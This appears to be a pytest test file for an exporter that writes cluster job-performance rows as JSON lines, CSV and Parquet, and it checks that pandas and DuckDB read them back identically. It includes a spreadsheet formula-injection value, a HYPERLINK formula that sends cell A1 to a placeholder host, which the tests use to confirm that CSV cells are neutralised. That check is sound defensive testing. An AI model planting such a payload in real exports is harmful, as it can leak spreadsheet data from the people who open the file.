"""JSON lines, CSV and Parquet of the same rows, opened by pandas and DuckDB: the same values and types everywhere."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable, Iterable
from datetime import UTC, datetime
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import duckdb
import msgspec
import pandas as pd
import pyarrow.parquet as pq
import pytest

from reports.performance import parquet, tables
from reports.performance.judged_row import STORED, judged_row
from reports.performance.parquet import parquet_file
from reports.performance.rows import COLUMNS, PerformanceRow, dictionary, dictionary_text
from reports.performance.tables import csv_table, json_lines
from wire.csv_cells import unmarked

DUCKDB_TYPES = {
    **{"text": "VARCHAR", "integer": "BIGINT", "number": "DOUBLE", "boolean": "BOOLEAN"},
    "time": "TIMESTAMP WITH TIME ZONE",
}
HOSTILE = '=HYPERLINK("http://x/?"&A1;"a,b");\t@SUM(1)|\r\n\u202eé'


def a_row(**changes: Any) -> PerformanceRow:
    """alice's run as it comes from the database; everything that may be unknown is, unless given."""
    known = {
        **dict.fromkeys(STORED),
        **{"cluster": "lumi", "job_id": 7, "attempt": 0, "user_id": "alice", "project_id": "project_1", "job_name": ""},
        **{"partition": "", "qos": "", "state": "COMPLETED", "exit_code": "0:0", "request": {}, "work_key": ""},
        "reported_by_owner_only": False,
    }
    return judged_row(known | changes)


ROWS = (
    a_row(
        **{"job_id": 2**53, "job_name": HOSTILE, "partition": "small-g", "gpus_allocated": 8, "gpu_hours": 0.1 + 0.2},
        **{"started_at": datetime(2026, 11, 20, 10, 0, 0, 123456, UTC), "efficiency_class": "WASTED"},
        **{"finding_codes": " idle_gpus timeout ", "avg_gpu_util_percent": 0.0, "is_partial": False},
    ),
    a_row(job_id=8, job_name="'=1"),
    a_row(job_id=9, job_name="-", state="RUNNING", gpus_allocated=0),
)


def whole(write: Callable[[Iterable[PerformanceRow]], Iterable[bytes]]) -> bytes:
    return b"".join(write(iter(ROWS)))


def plain(value: Any) -> Any:
    """A value as JSON has it."""
    return tables.instant(value) if isinstance(value, datetime) else value


EXPECTED = [{name: plain(value) for name, value in msgspec.structs.asdict(row).items()} for row in ROWS]


def test_json_lines_have_every_column_and_null_for_the_unknown() -> None:
    lines = whole(json_lines).decode().splitlines()
    assert [json.loads(line) for line in lines] == EXPECTED
    assert json.loads(lines[0])["started_at"] == "2026-11-20T10:00:00.123456Z"
    assert json.loads(lines[1])["gpu_hours"] is None


def test_csv_reads_back_to_the_same_values_without_the_apostrophes() -> None:
    read = list(csv.DictReader(StringIO(whole(csv_table).decode(), newline="")))
    kinds = {column.name: column.type for column in COLUMNS}
    back = {
        "text": unmarked,
        "integer": int,
        "number": float,
        "boolean": lambda cell: {"true": True, "false": False}[cell],
        "time": str,
    }
    assert [{name: back[kinds[name]](cell) if cell else None for name, cell in row.items()} for row in read] == EXPECTED
    assert read[0]["job_name"].startswith("'=HYPERLINK")
    assert read[1]["job_name"] == "''=1"


def test_no_cell_of_the_csv_begins_a_formula_whatever_the_separator() -> None:
    for separator in (",", ";", "\t", "|"):
        cells = [cell for row in csv.reader(StringIO(whole(csv_table).decode()), delimiter=separator) for cell in row]
        assert [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))] == []


def test_pandas_opens_parquet_with_the_types_of_the_dictionary() -> None:
    frame = pd.read_parquet(BytesIO(whole(parquet_file)), dtype_backend="pyarrow")
    found = [
        {name: None if pd.isna(value) else plain(value) for name, value in row.items()}
        for row in frame.to_dict("records")
    ]
    assert [row | {"started_at": None} for row in found] == [row | {"started_at": None} for row in EXPECTED]
    assert frame["started_at"][0] == pd.Timestamp("2026-11-20T10:00:00.123456Z")
    assert str(frame.dtypes["gpus_allocated"]) == "int64[pyarrow]"


def test_pandas_opens_json_lines_and_csv() -> None:
    from_lines = pd.read_json(BytesIO(whole(json_lines)), lines=True, dtype=False)
    from_csv = pd.read_csv(BytesIO(whole(csv_table)))
    names = [column.name for column in COLUMNS]
    assert (list(from_lines), list(from_csv)) == (names, names)
    assert from_lines["gpu_hours"][0] == from_csv["gpu_hours"][0] == 0.1 + 0.2
    assert from_csv["gpus_allocated"].isna().tolist() == [False, True, False]


@pytest.mark.parametrize("name", ["runs.parquet", "runs.jsonl", "runs.csv"])
def test_duckdb_reads_the_same_values_from_each_file(tmp_path: Path, name: str) -> None:
    file = tmp_path / name
    file.write_bytes(whole({"parquet": parquet_file, "jsonl": json_lines, "csv": csv_table}[name.split(".")[1]]))
    types = {column.name: DUCKDB_TYPES[column.type] for column in COLUMNS}
    source = {
        "parquet": f"read_parquet('{file}')",
        "jsonl": f"read_json('{file}', columns={types})",
        "csv": f"read_csv('{file}', header=true, columns={types})",
    }[name.split(".")[1]]
    described = duckdb.sql(f"DESCRIBE SELECT * FROM {source}").fetchall()
    assert {column: kind for column, kind, *_ in described} == types
    rows = duckdb.sql(
        f"SELECT job_id, job_name, gpus_allocated, gpu_hours, is_partial, success FROM {source}"
    ).fetchall()
    names = [unmarked(row[1]) if name.endswith("csv") else row[1] for row in rows]
    assert names == [row["job_name"] for row in EXPECTED]
    assert [(row[0], *row[2:]) for row in rows] == [
        (2**53, 8, 0.1 + 0.2, False, True),
        (8, None, None, None, True),
        (9, 0, None, None, None),
    ]
    [(microseconds,)] = duckdb.sql(f"SELECT epoch_us(started_at) FROM {source} WHERE started_at IS NOT NULL").fetchall()
    # 2026-11-20T10:00:00Z is 1,795,168,800 s after 1970.
    assert microseconds == 1_795_168_800_123_456


def test_parquet_contains_the_dictionary_and_what_each_column_is() -> None:
    schema = pq.read_schema(BytesIO(whole(parquet_file)))
    assert json.loads(schema.metadata[b"dictionary"]) == dictionary()
    assert schema.metadata[b"schema"] == b"kaiku-performance/1"
    assert schema.field("walltime_used_s").metadata[b"unit"] == b"s"
    assert not schema.field("job_id").nullable
    assert schema.field("gpu_hours").nullable


def test_many_rows_are_written_in_parts(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parquet, "ROWS_IN_GROUP", 2)
    monkeypatch.setattr(tables, "ROWS_TOGETHER", 2)
    parts = list(parquet_file(ROWS))
    # The magic number comes with the first group; two groups and the foot.
    assert len(parts) == 3
    assert pq.ParquetFile(BytesIO(b"".join(parts))).num_row_groups == 2
    assert len(list(json_lines(ROWS))) == 2
    # The head, and two batches.
    assert len(list(csv_table(ROWS))) == 3


def test_no_runs_are_an_empty_table_with_its_columns() -> None:
    assert b"".join(json_lines([])) == b""
    assert b"".join(csv_table([])).decode().strip() == ",".join(column.name for column in COLUMNS)
    assert pq.read_table(BytesIO(b"".join(parquet_file([])))).num_rows == 0


def test_the_dictionary_in_words_names_every_column() -> None:
    text = dictionary_text()
    assert all(f"| `{column.name}` | {column.type} |" in text for column in COLUMNS)
    assert "| `queue_wait_s` | number | s | Slurm | from when the run could start until it did |" in text


def test_the_page_about_exports_has_the_dictionary_of_the_code() -> None:
    page = (Path(__file__).parents[3] / "docs/performance-export.md").read_text()
    assert page.partition("## Data dictionary\n\n")[2] == dictionary_text()
